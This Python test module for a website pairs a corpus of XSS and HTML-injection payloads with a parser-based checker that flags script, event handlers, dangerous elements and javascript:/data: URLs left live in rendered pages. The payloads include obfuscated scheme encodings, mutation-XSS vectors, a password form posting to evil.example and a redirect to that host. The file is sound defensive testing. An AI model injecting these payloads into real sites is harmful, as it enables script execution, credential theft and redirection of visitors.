"""A corpus of Markdown/HTML attacks, and a checker that a rendered page carries none of them live.

Used by test_hostile_input.py on public pages, previews, diffs and the admin. (NUL characters are
refused by every form before they reach the database: test_hostile_input tests that separately.)
"""

from html.parser import HTMLParser

PAYLOADS = [
    "<script>alert('xss')</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\" oNeRrOr=\"alert(1)\">",
    "<body onload=alert(1)>",
    "<div onmouseover=\"alert(1)\">hover me</div>",
    "[click me](javascript:alert(1))",
    "[click me](JaVaScRiPt:alert(1))",
    "[click me](jav&#x09;ascript:alert(1))",
    "[click me](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))",
    "[click me](  javascript:alert(1))",
    "<a href=\"javascript:alert(1)\">link</a>",
    "<a href=\"jav&#x0A;ascript:alert(1)\">link</a>",
    "<a href=\"vbscript:msgbox(1)\">vb</a>",
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![image](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "<svg onload=alert(1)><circle r=10 /></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<p style=\"background:url(javascript:alert(1))\">styled</p>",
    "<iframe src=\"https://evil.example\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"https://evil.example/x.swf\"></object><embed src=x>",
    "<form action=\"https://evil.example\"><input name=password></form>",
    "<base href=\"https://evil.example/\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<div <script>alert(1)</script>",
    "<img src=x onerror=alert(1)",
    "<a href='x' onclick='alert(1)'",
    "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "{{ 7|add:7 }} {% now 'Y' %}",
    "<!--<script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "[x](https://ok.example \"title\\\" onmouseover=alert(1) x=\\\"\")",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "\u202eevil\u200b\u2066zero-width\u202egnp.exe",
]

DANGEROUS_ELEMENTS = {"iframe", "object", "embed", "svg", "math", "style", "base", "form", "frame", "frameset",
                      "applet", "meta", "link", "video", "audio", "source", "details", "template", "textarea"}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "srcdoc", "xlink:href", "background", "poster"}
BAD_SCHEMES = ("javascript:", "vbscript:", "data:")


def _normalise_url(value: str) -> str:
    # Browsers ignore ASCII whitespace and control characters inside a URL scheme.
    return "".join(ch for ch in value if ord(ch) > 32 and ord(ch) != 127).lower()


class _Checker(HTMLParser):
    def __init__(self, allowed_elements: set[str]) -> None:
        super().__init__(convert_charrefs=True)
        self.allowed_elements = allowed_elements
        self.problems: list[str] = []

    def handle_starttag(self, tag, attrs):
        if tag == "script":
            source = dict(attrs).get("src") or ""
            # JSON-LD is data, never run (and a payload breaking out of it would open a new <script>).
            data_block = (dict(attrs).get("type") or "").lower() == "application/ld+json"
            own = source.startswith("/") and not source.startswith("//")  # our own origin (static, jsi18n)
            if not own and not data_block:
                self.problems.append(f"<script> not from this site: {attrs}")
        # The site's own charts (therapies/site/charts.py) are inline SVG of this class, built from stored numbers
        # by format_html; an event handler or style on one is still reported below.
        own_chart = tag == "svg" and dict(attrs).get("class") == "chart-svg"
        # Likewise the fact box's "What this number counts" disclosure (includes/_fact_box.html): the sanitizer
        # keeps no class attribute, so a <details> from an editor's text can never carry this one.
        own_disclosure = tag == "details" and attrs == [("class", "counts")]
        if tag in DANGEROUS_ELEMENTS and tag not in self.allowed_elements and not (own_chart or own_disclosure):
            self.problems.append(f"<{tag}> element: {attrs}")
        for name, value in attrs:
            name = name.lower()
            if name.startswith("on"):
                self.problems.append(f"event handler {name}={value!r} on <{tag}>")
            if name == "style":
                self.problems.append(f"style attribute on <{tag}>: {value!r}")
            if name in URL_ATTRIBUTES and value and _normalise_url(value).startswith(BAD_SCHEMES):
                self.problems.append(f"{name}={value!r} on <{tag}>")
            if tag == "meta" and name == "http-equiv":
                self.problems.append(f"<meta http-equiv={value!r}>")
            if name in URL_ATTRIBUTES and value and "evil.example" in value and tag != "a":
                self.problems.append(f"{name}={value!r} on <{tag}> loads from the attacker")

    handle_startendtag = handle_starttag


def live_dangers(html: str, *, allowed_elements: set[str] = frozenset()) -> list[str]:
    """Everything in `html` a browser would run, load or style from an attacker: should be empty.

    `allowed_elements` names elements the page itself legitimately uses (the admin's own forms, a
    <textarea> in an edit form, the <link> to our own style sheet), which are then not reported.
    """
    checker = _Checker(set(allowed_elements))
    checker.feed(html)
    checker.close()
    return checker.problems
